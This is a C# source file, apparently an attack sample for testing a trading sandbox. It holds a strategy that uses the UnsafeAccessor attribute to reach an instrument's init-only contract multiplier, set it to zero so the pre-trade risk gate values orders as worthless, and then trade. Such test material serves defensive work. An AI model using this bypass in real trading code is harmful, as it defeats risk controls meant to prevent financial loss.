// Abuses: UnsafeAccessor: an extern method without body or P/Invoke; no member reference to the setter anywhere.
// Harm: calls the init accessor of an instrument that is in use; multiplier 0 makes every order worth nothing to the gate.
// Kind: bypass of pre-trade risk.
using System;
using System.Collections.Generic;
using System.Linq;
using System.Runtime.CompilerServices;
using System.Threading;
using Strategies.Sdk;

namespace Attacks.UnsafeAccessorSetterAttack;

public sealed class UnsafeAccessorSetterStrategy : Attacker
{
    [UnsafeAccessor(UnsafeAccessorKind.Method, Name = "set_ContractMultiplier")]
    private static extern void SetMultiplier(Instrument instrument, long value);

    public override void OnBook(in BookEvent bookEvent)
    {
        SetMultiplier(Context.Instrument(bookEvent.Instrument), 0);
        Act(1);
    }
}
